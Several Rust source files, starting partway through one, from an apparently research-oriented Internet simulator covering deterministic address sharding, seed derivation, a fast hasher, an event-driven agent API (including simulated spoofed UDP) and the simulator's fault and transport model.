    fn doubling_the_count_refines_the_partition() {
        // Mask ownership means every shard of a 2^(k-1) partition splits
        // into exactly shards {i, i + 2^(k-1)} of the 2^k partition.
        for a in 0..4_096u32 {
            let addr = Ipv4Addr::from(0x2000_0000 + a * 37);
            for k in 1..=6u32 {
                let fine = shard_of(addr, 1 << k);
                let coarse = shard_of(addr, 1 << (k - 1));
                assert_eq!(fine & ((1 << (k - 1)) - 1), coarse, "addr {addr} k {k}");
            }
        }
    }

    #[test]
    fn owned_counts_sum_to_size() {
        let base = ip(16, 0, 0, 0);
        let size = 4_096u64;
        for shards in [16u32, 64] {
            let total: u64 = ShardSpec::all(shards).map(|s| s.owned_in(base, size)).sum();
            assert_eq!(total, size);
        }
    }

    #[test]
    fn shards_are_balanced() {
        // Hash sharding must spread a contiguous range roughly evenly —
        // the point of hashing instead of range-splitting.
        let base = ip(16, 0, 0, 0);
        let size = 16_384u64;
        for s in ShardSpec::all(16) {
            let owned = s.owned_in(base, size);
            let ideal = size / 16;
            assert!(
                owned > ideal / 2 && owned < ideal * 2,
                "shard {} owns {owned} of {size} (ideal {ideal})",
                s.index
            );
        }
    }

    #[test]
    fn whole_owns_everything() {
        assert!(ShardSpec::WHOLE.owns(ip(1, 2, 3, 4)));
        assert_eq!(ShardSpec::WHOLE.owned_in(ip(16, 0, 0, 0), 1 << 20), 1 << 20);
    }

    #[test]
    fn seeds_differ_per_shard_and_label() {
        let a = ShardSpec { index: 0, count: 16 }.seed(7, "net");
        let b = ShardSpec { index: 1, count: 16 }.seed(7, "net");
        let c = ShardSpec { index: 0, count: 16 }.seed(7, "scan");
        assert_ne!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn growing_the_partition_keeps_a_shards_streams() {
        // Elasticity contract: the partition moves with the count, the
        // streams do not — shard 3 of 64 draws the same randomness as
        // shard 3 of 16.
        let small = ShardSpec { index: 3, count: 16 };
        let large = ShardSpec { index: 3, count: 64 };
        assert_eq!(small.seed(7, "shard-net"), large.seed(7, "shard-net"));
    }
}
