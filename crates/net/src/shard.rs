//! Deterministic address-space sharding.
//!
//! The study engine splits the simulated Internet into a **fixed** number of
//! shards and runs each shard as an independent [`crate::SimNet`]. Shard
//! ownership is a pure function of the address (a SplitMix64 hash), so the
//! partition — and therefore every shard's event trace — depends only on the
//! master seed and the shard *count*, never on how many worker threads
//! execute the shards. That is what makes the merged study report
//! byte-identical for any worker count.
//!
//! The hash (rather than a contiguous range split) matters: populations are
//! geographically clustered in address space, and a range split would give
//! some shards all the devices and others none. SplitMix64 scatters
//! neighbouring addresses across shards, so load stays balanced.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::rng::{derive_seed_indexed, splitmix64};

/// Salt folded into the ownership hash so shard assignment is unrelated to
/// any other SplitMix64 use of the raw address (e.g. latency jitter).
const SHARD_SALT: u64 = 0x5348_4152_4421_6f66; // "SHARD!of"

/// One shard of a fixed-size partition of the address space.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ShardSpec {
    /// This shard's index in `0..count`.
    pub index: u32,
    /// Total number of shards in the partition.
    pub count: u32,
}

impl ShardSpec {
    /// The degenerate single-shard partition (owns every address).
    pub const WHOLE: ShardSpec = ShardSpec { index: 0, count: 1 };

    /// All shards of a `count`-way partition.
    pub fn all(count: u32) -> impl Iterator<Item = ShardSpec> {
        (0..count.max(1)).map(move |index| ShardSpec { index, count: count.max(1) })
    }

    /// Whether this shard owns `addr`. Exactly one shard of a partition
    /// owns any given address.
    pub fn owns(&self, addr: Ipv4Addr) -> bool {
        shard_of(addr, self.count) == self.index
    }

    /// Seed for this shard's event fabric / RNG streams, derived from the
    /// master seed. Distinct per (label, index); never collides with the
    /// unsharded `derive_seed` streams because of the label.
    pub fn seed(&self, master: u64, label: &str) -> u64 {
        derive_seed_indexed(master, label, self.index as u64)
    }

    /// How many of the `size` addresses starting at `base` this shard owns.
    /// O(size) in the general case; the single-shard partition answers
    /// immediately.
    pub fn owned_in(&self, base: Ipv4Addr, size: u64) -> u64 {
        if self.count <= 1 {
            return size;
        }
        let first = u32::from(base) as u64;
        (0..size)
            .filter(|off| shard_of(Ipv4Addr::from((first + off) as u32), self.count) == self.index)
            .count() as u64
    }
}

/// The shard (in `0..shards`) that owns `addr`.
pub fn shard_of(addr: Ipv4Addr, shards: u32) -> u32 {
    if shards <= 1 {
        return 0;
    }
    (splitmix64(u64::from(u32::from(addr)) ^ SHARD_SALT) % shards as u64) as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ip;

    #[test]
    fn ownership_is_a_partition() {
        for shards in [1u32, 2, 3, 16] {
            for a in 0..512u32 {
                let addr = Ipv4Addr::from(0x1000_0000 + a);
                let owners: Vec<u32> = ShardSpec::all(shards)
                    .filter(|s| s.owns(addr))
                    .map(|s| s.index)
                    .collect();
                assert_eq!(owners.len(), 1, "addr {addr} owned by {owners:?}");
                assert_eq!(owners[0], shard_of(addr, shards));
            }
        }
    }

    #[test]
    fn owned_counts_sum_to_size() {
        let base = ip(16, 0, 0, 0);
        let size = 4_096u64;
        let total: u64 = ShardSpec::all(16).map(|s| s.owned_in(base, size)).sum();
        assert_eq!(total, size);
    }

    #[test]
    fn shards_are_balanced() {
        // Hash sharding must spread a contiguous range roughly evenly —
        // the point of hashing instead of range-splitting.
        let base = ip(16, 0, 0, 0);
        let size = 16_384u64;
        for s in ShardSpec::all(16) {
            let owned = s.owned_in(base, size);
            let ideal = size / 16;
            assert!(
                owned > ideal / 2 && owned < ideal * 2,
                "shard {} owns {owned} of {size} (ideal {ideal})",
                s.index
            );
        }
    }

    #[test]
    fn whole_owns_everything() {
        assert!(ShardSpec::WHOLE.owns(ip(1, 2, 3, 4)));
        assert_eq!(ShardSpec::WHOLE.owned_in(ip(16, 0, 0, 0), 1 << 20), 1 << 20);
    }

    #[test]
    fn seeds_differ_per_shard_and_label() {
        let a = ShardSpec { index: 0, count: 16 }.seed(7, "net");
        let b = ShardSpec { index: 1, count: 16 }.seed(7, "net");
        let c = ShardSpec { index: 0, count: 16 }.seed(7, "scan");
        assert_ne!(a, b);
        assert_ne!(a, c);
    }
}
