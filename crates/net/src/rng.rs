//! Deterministic randomness.
//!
//! Every stochastic component of the simulation (population placement, attacker
//! inter-arrival times, packet loss, …) draws from an RNG whose seed is derived
//! from the study's master seed and a label. Labelled derivation means adding a
//! new consumer never perturbs the streams of existing consumers, keeping
//! regression baselines stable.

use rand::rngs::StdRng;
use rand::SeedableRng;

/// Derive a child seed from `master` and a string label.
///
/// Uses the FNV-1a/SplitMix64 combination: cheap, well distributed, and stable
/// across platforms and Rust versions (unlike `std::hash`).
pub fn derive_seed(master: u64, label: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325 ^ master.rotate_left(17);
    for &b in label.as_bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x1000_0000_01b3);
    }
    splitmix64(h)
}

/// Derive a child seed from `master`, a label, and an index (for per-entity
/// streams such as "bot #4217").
pub fn derive_seed_indexed(master: u64, label: &str, index: u64) -> u64 {
    splitmix64(derive_seed(master, label) ^ splitmix64(index.wrapping_add(0x9e37_79b9_7f4a_7c15)))
}

/// One round of SplitMix64 — used as a finalizer so similar inputs map to
/// well-separated seeds.
pub fn splitmix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A seeded [`StdRng`] for the given label.
pub fn rng_for(master: u64, label: &str) -> StdRng {
    StdRng::seed_from_u64(derive_seed(master, label))
}

/// A seeded [`StdRng`] for the given label and index.
pub fn rng_for_indexed(master: u64, label: &str, index: u64) -> StdRng {
    StdRng::seed_from_u64(derive_seed_indexed(master, label, index))
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::Rng;

    #[test]
    fn derivation_is_deterministic() {
        assert_eq!(derive_seed(42, "scan"), derive_seed(42, "scan"));
        assert_eq!(
            derive_seed_indexed(42, "bot", 7),
            derive_seed_indexed(42, "bot", 7)
        );
    }

    #[test]
    fn labels_separate_streams() {
        assert_ne!(derive_seed(42, "scan"), derive_seed(42, "telescope"));
        assert_ne!(derive_seed(42, "scan"), derive_seed(43, "scan"));
        assert_ne!(
            derive_seed_indexed(42, "bot", 0),
            derive_seed_indexed(42, "bot", 1)
        );
    }

    #[test]
    fn rng_streams_reproducible() {
        let a: Vec<u32> = rng_for(1, "x").sample_iter(rand::distributions::Standard).take(8).collect();
        let b: Vec<u32> = rng_for(1, "x").sample_iter(rand::distributions::Standard).take(8).collect();
        assert_eq!(a, b);
        let c: Vec<u32> = rng_for(1, "y").sample_iter(rand::distributions::Standard).take(8).collect();
        assert_ne!(a, c);
    }

    #[test]
    fn splitmix_known_vector() {
        // Reference value from the canonical SplitMix64 implementation with
        // state 0: first output is 0xE220A8397B1DCDAF.
        assert_eq!(splitmix64(0), 0xE220_A839_7B1D_CDAF);
    }
}
