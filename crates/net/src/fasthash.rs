//! A fast, deterministic hasher for the fabric's hot maps.
//!
//! The simulator's inner loop performs several hash-map operations per
//! packet event (connection table, address table, in-flight grab tables).
//! `std`'s default SipHash is DoS-resistant but costs a large fraction of
//! the per-event budget; the keys here are simulator-internal integers
//! (connection ids, addresses, ports), not attacker-controlled input, so a
//! multiply–xor hash is safe and several times faster.
//!
//! Determinism note: the hash function is fixed (no per-process random
//! state, unlike `RandomState`), so map *iteration order* would also be
//! deterministic — but hot-path code must still never iterate these maps
//! where ordering is observable; lookups only.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasherDefault, Hasher};

/// A `HashMap` keyed with [`FastHasher`].
pub type FastMap<K, V> = HashMap<K, V, BuildHasherDefault<FastHasher>>;

/// A `HashSet` keyed with [`FastHasher`].
pub type FastSet<K> = HashSet<K, BuildHasherDefault<FastHasher>>;

/// Multiply–xor hasher (the fxhash/rustc-hash construction) over native
/// words. Not HashDoS-resistant; for simulator-internal keys only.
#[derive(Debug, Default, Clone)]
pub struct FastHasher(u64);

/// Knuth's 64-bit golden-ratio multiplier.
const SEED: u64 = 0x9E37_79B9_7F4A_7C15;

impl FastHasher {
    #[inline]
    fn add(&mut self, word: u64) {
        self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(SEED);
    }
}

impl Hasher for FastHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.0
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            self.add(u64::from_le_bytes(c.try_into().unwrap()));
        }
        let rest = chunks.remainder();
        if !rest.is_empty() {
            let mut buf = [0u8; 8];
            buf[..rest.len()].copy_from_slice(rest);
            // Fold in the length so "ab" and "ab\0" differ.
            self.add(u64::from_le_bytes(buf) ^ (rest.len() as u64) << 56);
        }
    }

    #[inline]
    fn write_u8(&mut self, n: u8) {
        self.add(n as u64);
    }

    #[inline]
    fn write_u16(&mut self, n: u16) {
        self.add(n as u64);
    }

    #[inline]
    fn write_u32(&mut self, n: u32) {
        self.add(n as u64);
    }

    #[inline]
    fn write_u64(&mut self, n: u64) {
        self.add(n);
    }

    #[inline]
    fn write_usize(&mut self, n: usize) {
        self.add(n as u64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::hash::Hash;

    fn hash_of<T: Hash>(v: T) -> u64 {
        let mut h = FastHasher::default();
        v.hash(&mut h);
        h.finish()
    }

    #[test]
    fn deterministic_across_instances() {
        assert_eq!(hash_of(12345u64), hash_of(12345u64));
        assert_eq!(hash_of("banner"), hash_of("banner"));
    }

    #[test]
    fn distinguishes_nearby_keys() {
        // Consecutive connection ids (the hottest key pattern) must spread.
        let hashes: std::collections::HashSet<u64> = (0u64..10_000).map(hash_of).collect();
        assert_eq!(hashes.len(), 10_000);
    }

    #[test]
    fn length_matters_for_bytes() {
        assert_ne!(hash_of(b"ab".as_slice()), hash_of(b"ab\0".as_slice()));
    }

    #[test]
    fn map_works_with_std_types() {
        let mut m: FastMap<(std::net::Ipv4Addr, u16), u32> = FastMap::default();
        m.insert((crate::ip(1, 2, 3, 4), 23), 9);
        assert_eq!(m.get(&(crate::ip(1, 2, 3, 4), 23)), Some(&9));
    }
}
