//! The agent model: everything attached to the simulated Internet — IoT
//! devices, honeypots, scanners, botnets, scanning services — implements
//! [`Agent`] and reacts to network events through a [`NetCtx`].
//!
//! The callback style mirrors event-driven network stacks: the simulator owns
//! the event loop; agents are state machines that receive connection
//! lifecycle events, datagrams, and timers, and issue new traffic through the
//! context handle. Agents must not block or sleep — to wait, set a timer.

use std::any::Any;
use std::net::Ipv4Addr;

use rand::rngs::StdRng;

use crate::addr::SockAddr;
use crate::packet::Payload;
use crate::sim::Fabric;
use crate::time::{SimDuration, SimTime};

/// Identifier of an agent attached to the network.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct AgentId(pub u32);

/// Identifier of a TCP connection, shared by both endpoints.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ConnToken(pub u64);

/// A server's verdict on an inbound TCP connection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TcpDecision {
    /// Accept the connection, optionally sending a greeting (banner) as the
    /// first bytes on the wire — Telnet prompts, AMQP `Connection.Start`,
    /// SSH identification strings all arrive this way.
    Accept { greeting: Option<Payload> },
    /// Refuse (RST). The initiator sees `on_tcp_refused`.
    Refuse,
}

impl TcpDecision {
    /// Accept without a greeting.
    pub fn accept() -> Self {
        TcpDecision::Accept { greeting: None }
    }

    /// Accept and greet with `banner`. Static byte strings (`b"login: "`)
    /// convert without copying; owned `Vec`s/`String`s without reallocating.
    pub fn accept_with(banner: impl Into<Payload>) -> Self {
        TcpDecision::Accept {
            greeting: Some(banner.into()),
        }
    }
}

/// Behaviour of a simulated host. All methods have no-op defaults; implement
/// the ones the host cares about.
///
/// `Any` is a supertrait so experiments can recover concrete agent state
/// (collected logs, scan results) from the simulator after a run via
/// [`crate::sim::SimNet::agent_downcast_mut`].
pub trait Agent: Any {
    /// Called once when the agent is attached to the network.
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        let _ = ctx;
    }

    /// Inbound TCP connection request to `local_port` from `peer`.
    /// Default: refuse everything.
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let _ = (ctx, conn, local_port, peer);
        TcpDecision::Refuse
    }

    /// An outbound connection this agent initiated is now established.
    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let _ = (ctx, conn);
    }

    /// An outbound connection was refused (RST — host up, port closed).
    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let _ = (ctx, conn);
    }

    /// An outbound connection timed out (no host, or the SYN/SYN-ACK was lost).
    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let _ = (ctx, conn);
    }

    /// Bytes arrived on an established connection (either side). The
    /// [`Payload`] derefs to `&[u8]`; clone it (a refcount bump) to keep the
    /// bytes beyond the callback without copying.
    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let _ = (ctx, conn, data);
    }

    /// The peer closed the connection.
    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let _ = (ctx, conn);
    }

    /// The connection was torn down by the network (an injected reset or a
    /// blackout), not by the peer. Delivered to *both* ends. Defaults to
    /// [`Self::on_tcp_closed`] — for most agents a reset is just an abrupt
    /// close; resilient clients (the scanner's grab retry path) override it.
    fn on_tcp_reset(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.on_tcp_closed(ctx, conn);
    }

    /// A UDP datagram arrived at `local_port`.
    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        let _ = (ctx, local_port, peer, payload);
    }

    /// A timer set with [`NetCtx::set_timer`] fired.
    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        let _ = (ctx, token);
    }
}

/// Handle through which an agent interacts with the network fabric during a
/// callback. Borrowed for the duration of one callback only — agents never
/// store it.
pub struct NetCtx<'a> {
    pub(crate) fabric: &'a mut Fabric,
    pub(crate) me: AgentId,
    pub(crate) my_addr: Ipv4Addr,
}

impl<'a> NetCtx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.fabric.now()
    }

    /// This agent's address.
    pub fn my_addr(&self) -> Ipv4Addr {
        self.my_addr
    }

    /// This agent's id.
    pub fn my_id(&self) -> AgentId {
        self.me
    }

    /// The fabric-level deterministic RNG.
    pub fn rng(&mut self) -> &mut StdRng {
        &mut self.fabric.rng
    }

    /// Initiate a TCP connection to `dst` from an ephemeral source port.
    /// The outcome arrives later via `on_tcp_established` / `on_tcp_refused` /
    /// `on_tcp_timeout`.
    pub fn tcp_connect(&mut self, dst: SockAddr) -> ConnToken {
        let sport = self.fabric.next_ephemeral_port();
        self.fabric.tcp_connect(self.me, self.my_addr, sport, dst, 0)
    }

    /// Initiate a TCP connection from a specific source port (scanners use
    /// fixed source ports so responses can be matched statelessly).
    pub fn tcp_connect_from(&mut self, src_port: u16, dst: SockAddr) -> ConnToken {
        self.fabric.tcp_connect(self.me, self.my_addr, src_port, dst, 0)
    }

    /// Like [`Self::tcp_connect`], attaching an opaque `tag` retrievable via
    /// [`Self::conn_tag`] for the connection's lifetime. High-volume
    /// initiators (scanners) use the tag to recover per-probe context on
    /// `on_tcp_established` instead of maintaining a side table for every
    /// probe into mostly-empty space.
    pub fn tcp_connect_tagged(&mut self, dst: SockAddr, tag: u64) -> ConnToken {
        let sport = self.fabric.next_ephemeral_port();
        self.fabric.tcp_connect(self.me, self.my_addr, sport, dst, tag)
    }

    /// The tag attached at connect time (`None` once the connection is gone).
    pub fn conn_tag(&self, conn: ConnToken) -> Option<u64> {
        self.fabric.conn_tag(conn)
    }

    /// The remote (server-side) socket address of a live connection this
    /// agent initiated.
    pub fn conn_peer(&self, conn: ConnToken) -> Option<SockAddr> {
        self.fabric.conn_peer(conn)
    }

    /// Send bytes on a connection this agent participates in. Accepts
    /// anything convertible to [`Payload`]: static byte strings travel
    /// pointer-only, owned buffers are shared, not copied.
    pub fn tcp_send(&mut self, conn: ConnToken, data: impl Into<Payload>) {
        self.fabric.tcp_send(self.me, conn, data.into());
    }

    /// Close a connection. The peer receives `on_tcp_closed`.
    pub fn tcp_close(&mut self, conn: ConnToken) {
        self.fabric.tcp_close(self.me, conn);
    }

    /// Send a UDP datagram from `src_port` to `dst`.
    pub fn udp_send(&mut self, src_port: u16, dst: SockAddr, payload: impl Into<Payload>) {
        let src = SockAddr::new(self.my_addr, src_port);
        self.fabric.udp_send(self.me, src, dst, payload.into(), false);
    }

    /// Send a UDP datagram with a **spoofed source address** — the reflection
    /// attack primitive: any reply goes to the claimed source (the victim),
    /// and telescope taps record the claimed source with `spoofed = true`.
    pub fn udp_send_spoofed(
        &mut self,
        claimed_src: SockAddr,
        dst: SockAddr,
        payload: impl Into<Payload>,
    ) {
        self.fabric.udp_send(self.me, claimed_src, dst, payload.into(), true);
    }

    /// Schedule `on_timer(token)` after `delay`.
    pub fn set_timer(&mut self, delay: SimDuration, token: u64) {
        self.fabric.set_timer(self.me, delay, token);
    }

    /// Start recording the ids of connections opened through this context.
    /// Composite agents (an infected device hosting a bot) wrap a nested
    /// callback in a capture to attribute the connections it opened to the
    /// right sub-agent. Captures do not nest.
    pub fn begin_conn_capture(&mut self) {
        self.fabric.begin_conn_capture();
    }

    /// Stop recording and return the connections opened since
    /// [`Self::begin_conn_capture`].
    pub fn end_conn_capture(&mut self) -> Vec<ConnToken> {
        self.fabric
            .end_conn_capture()
            .into_iter()
            .map(ConnToken)
            .collect()
    }

    /// Set the initial IP TTL for packets this agent sends (default 64).
    /// Different OS stacks use different initial TTLs (Linux 64, Windows 128,
    /// many embedded stacks 255); the telescope records the decremented value.
    pub fn set_initial_ttl(&mut self, ttl: u8) {
        self.fabric.set_ttl(self.me, ttl);
    }

    /// Set the advertised TCP window used in this agent's SYNs (default
    /// 65535). Scanning tools are identifiable by this value (masscan: 1024).
    pub fn set_syn_window(&mut self, window: u16) {
        self.fabric.set_window(self.me, window);
    }
}
