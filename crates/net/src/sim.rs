//! The simulator proper: [`SimNet`] owns the agents, the connection table,
//! the event queue, capture taps, and the fault model, and drives everything
//! deterministically.
//!
//! ## Transport semantics
//!
//! * **TCP connect**: subject to the configured [`FaultSchedule`] (a lost SYN
//!   or SYN-ACK manifests as a timeout, exactly the loss mode stateless
//!   scanners like ZMap experience; a rate-limiting intermediary manifests as
//!   a refusal; a churned-dark host as a timeout). Connecting to unoccupied
//!   space times out; to an occupied host with a refusing agent, produces an
//!   RST (`on_tcp_refused`).
//! * **TCP data**: reliable and ordered once established (retransmission is
//!   below the abstraction line), delivered after the connection's fixed
//!   per-pair latency plus any scheduled jitter — clamped so delivery stays
//!   FIFO per connection and direction. Fault schedules may inject resets
//!   (`on_tcp_reset` at both ends) and blackouts (segments crossing a total
//!   outage tear the connection down).
//! * **UDP**: unreliable — subject to drops, duplicate delivery, and
//!   (optionally) single-bit corruption. Supports spoofed sources, the
//!   reflection-attack primitive.
//!
//! Dropped packets are dropped *in transit*: observation taps do not see
//! them, which is how scheduled outages produce real gaps in the telescope's
//! capture. Churned-dark hosts, by contrast, drop traffic at the host, so
//! taps still observe it.
//!
//! ## Observation taps
//!
//! A [`FlowTap`] attached to a CIDR range sees every packet destined into the
//! range, including — crucially — packets to *unoccupied* addresses. This is
//! the mechanism behind `ofh-telescope`'s /8 darknet, and mirrors how a real
//! network telescope passively records unsolicited traffic.

use std::any::Any;
use crate::fasthash::FastMap;
use crate::slab::Slab;
use std::net::Ipv4Addr;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use crate::addr::SockAddr;
use crate::agent::{Agent, AgentId, ConnToken, NetCtx, TcpDecision};
use crate::cidr::Cidr;
use crate::event::EventQueue;
use crate::fault::{churn_dark, Direction, FaultSchedule};
use crate::packet::{FlowKind, FlowObservation, Payload, PayloadBuilder, Transport};
use crate::rng;
use crate::time::{SimDuration, SimTime};

/// How latency between a pair of hosts is derived.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum LatencyModel {
    /// Every packet takes exactly this long.
    Fixed(SimDuration),
    /// `base_ms` plus a deterministic per-(src,dst) component in
    /// `[0, spread_ms)` — distant hosts stay consistently distant.
    PairHash { base_ms: u64, spread_ms: u64 },
}

impl LatencyModel {
    fn one_way(&self, src: Ipv4Addr, dst: Ipv4Addr) -> SimDuration {
        match *self {
            LatencyModel::Fixed(d) => d,
            LatencyModel::PairHash { base_ms, spread_ms } => {
                let h = rng::splitmix64(((u32::from(src) as u64) << 32) | u32::from(dst) as u64);
                SimDuration::from_millis(base_ms + if spread_ms == 0 { 0 } else { h % spread_ms })
            }
        }
    }
}

impl Default for LatencyModel {
    fn default() -> Self {
        LatencyModel::PairHash {
            base_ms: 10,
            spread_ms: 140,
        }
    }
}

/// Simulator configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SimNetConfig {
    /// Master seed for the fabric RNG (fault decisions, jitter).
    pub seed: u64,
    /// Fault injection schedule (empty = fault-free fast path).
    #[serde(default)]
    pub faults: FaultSchedule,
    /// Latency model.
    pub latency: LatencyModel,
    /// How long a connection attempt waits before `on_tcp_timeout`.
    pub syn_timeout: SimDuration,
}

impl Default for SimNetConfig {
    fn default() -> Self {
        SimNetConfig {
            seed: 0,
            faults: FaultSchedule::none(),
            latency: LatencyModel::default(),
            syn_timeout: SimDuration::from_secs(3),
        }
    }
}

/// Aggregate traffic counters, handy for tests and reports.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Counters {
    pub events_processed: u64,
    pub syns_sent: u64,
    pub conns_established: u64,
    pub conns_refused: u64,
    pub conn_timeouts: u64,
    pub tcp_payload_bytes: u64,
    pub udp_datagrams_sent: u64,
    pub udp_datagrams_dropped: u64,
    pub udp_datagrams_corrupted: u64,
    pub udp_datagrams_duplicated: u64,
    /// SYNs / SYN-ACKs lost to the fault schedule (in transit).
    pub tcp_handshake_drops: u64,
    /// SYNs answered by a simulated rate limiter instead of the host.
    pub tcp_rate_limited: u64,
    /// Established connections torn down by an injected reset or blackout.
    pub tcp_resets_injected: u64,
    /// Packets swallowed because the destination host was churned dark.
    pub churn_suppressed: u64,
}

impl Counters {
    /// Fold another fabric's counters into this one (the sharded engine
    /// sums per-shard counters into the report's aggregate).
    pub fn absorb(&mut self, other: &Counters) {
        self.events_processed += other.events_processed;
        self.syns_sent += other.syns_sent;
        self.conns_established += other.conns_established;
        self.conns_refused += other.conns_refused;
        self.conn_timeouts += other.conn_timeouts;
        self.tcp_payload_bytes += other.tcp_payload_bytes;
        self.udp_datagrams_sent += other.udp_datagrams_sent;
        self.udp_datagrams_dropped += other.udp_datagrams_dropped;
        self.udp_datagrams_corrupted += other.udp_datagrams_corrupted;
        self.udp_datagrams_duplicated += other.udp_datagrams_duplicated;
        self.tcp_handshake_drops += other.tcp_handshake_drops;
        self.tcp_rate_limited += other.tcp_rate_limited;
        self.tcp_resets_injected += other.tcp_resets_injected;
        self.churn_suppressed += other.churn_suppressed;
    }
}

/// A passive packet observer attached to a CIDR range. Implemented by the
/// network telescope; `Any` lets experiments recover the concrete tap after a
/// run.
pub trait FlowTap: Any {
    fn observe(&mut self, obs: &FlowObservation);
}

/// Handle to a registered tap.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TapId(usize);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ConnPhase {
    Connecting,
    Established,
}

struct ConnState {
    client: AgentId,
    client_sock: SockAddr,
    /// Filled in when the SYN reaches an occupied host.
    server: Option<AgentId>,
    server_sock: SockAddr,
    latency: SimDuration,
    phase: ConnPhase,
    /// Whether the client has heard the outcome (established/refused).
    client_notified: bool,
    /// Opaque client-chosen tag (see [`NetCtx::tcp_connect_tagged`]);
    /// scanners use it to recover the sweep a probe belongs to without a
    /// per-probe side table.
    tag: u64,
    /// Latest delivery time already scheduled toward the server — jittered
    /// segments are clamped to at least this, keeping the stream FIFO.
    fifo_fwd: SimTime,
    /// Same, toward the client.
    fifo_rev: SimTime,
    /// An injected reset is in flight: the connection is dying, further
    /// segments go nowhere, and a [`NetEvent::ResetTeardown`] will remove it.
    reset_pending: bool,
}

enum NetEvent {
    Boot {
        agent: AgentId,
    },
    SynArrive {
        conn: u64,
    },
    ConnOutcome {
        conn: u64,
        accepted: bool,
    },
    DataArrive {
        conn: u64,
        to_server: bool,
        data: Payload,
    },
    CloseArrive {
        conn: u64,
        to_agent: AgentId,
    },
    ResetTeardown {
        conn: u64,
    },
    ConnTimeout {
        conn: u64,
    },
    UdpArrive {
        src: SockAddr,
        dst: SockAddr,
        payload: Payload,
    },
    Timer {
        agent: AgentId,
        token: u64,
    },
}

/// Deterministic source of implicitly-populated hosts.
///
/// At paper scale the universe holds millions of occupied addresses; eagerly
/// attaching an agent per host would allocate the whole population up front.
/// A spawner instead answers occupancy queries as a pure function of the
/// address and materializes the agent only when traffic *reaches* the host
/// (first touch). The contract that keeps the simulation byte-identical to
/// an eager universe:
///
/// * [`Self::occupied`] is a pure, stable function of the address — it must
///   answer identically every time, and must never consult simulation state.
/// * [`Self::spawn`] is called at most once per address (the fabric caches
///   the materialized agent) and must be deterministic: same address, same
///   agent state.
/// * Spawned agents must not override [`Agent::on_boot`] with effects —
///   first touch runs the boot hook at materialization time, not at t=0, so
///   only boot-inert agents (plain devices, wild honeypots) may be implicit.
///   Hosts with boot-time behaviour (infected devices scheduling bot tasks)
///   stay eagerly attached.
pub trait HostSpawner {
    /// Whether an implicit host exists at `addr`. Must be stable.
    fn occupied(&self, addr: Ipv4Addr) -> bool;
    /// Materialize the host's agent. Called at most once per address.
    fn spawn(&mut self, addr: Ipv4Addr) -> Option<Box<dyn Agent>>;
}

/// The network fabric: everything except the agents themselves. Split out so
/// an agent callback can mutate the fabric (send packets, set timers) while
/// the simulator holds the agent itself mutably.
pub struct Fabric {
    queue: EventQueue<NetEvent>,
    conns: Slab<ConnState>,
    /// When set, every connection id opened via `tcp_connect` is appended —
    /// see [`NetCtx::begin_conn_capture`].
    conn_capture: Option<Vec<u64>>,
    next_port: u16,
    by_addr: FastMap<Ipv4Addr, AgentId>,
    ttls: Vec<u8>,
    windows: Vec<u16>,
    /// Outbound-initiation counters per agent: TCP connects + UDP datagrams
    /// sent to peers the agent was not already talking to. The egress audit
    /// (paper Appendix A.3: honeypots must never attack back) reads these.
    egress: Vec<EgressStats>,
    /// While dispatching a UDP arrival: (receiving agent, sender) — used to
    /// classify the agent's own sends during the callback as replies.
    current_udp_inbound: Option<(AgentId, SockAddr)>,
    /// While dispatching a terminal outcome (refused/timeout): the connection
    /// being torn down as `(id, tag, server_sock)`, so `conn_tag` /
    /// `conn_peer` still answer inside the callback — retrying clients need
    /// the target back — without keeping the slab slot alive (a callback may
    /// legitimately open new connections that reuse it).
    closing: Option<(u64, u64, SockAddr)>,
    /// Implicit-population source: consulted on `by_addr` misses for
    /// occupancy, and drained into `by_addr` on first touch.
    spawner: Option<Box<dyn HostSpawner>>,
    pub(crate) rng: StdRng,
    cfg: SimNetConfig,
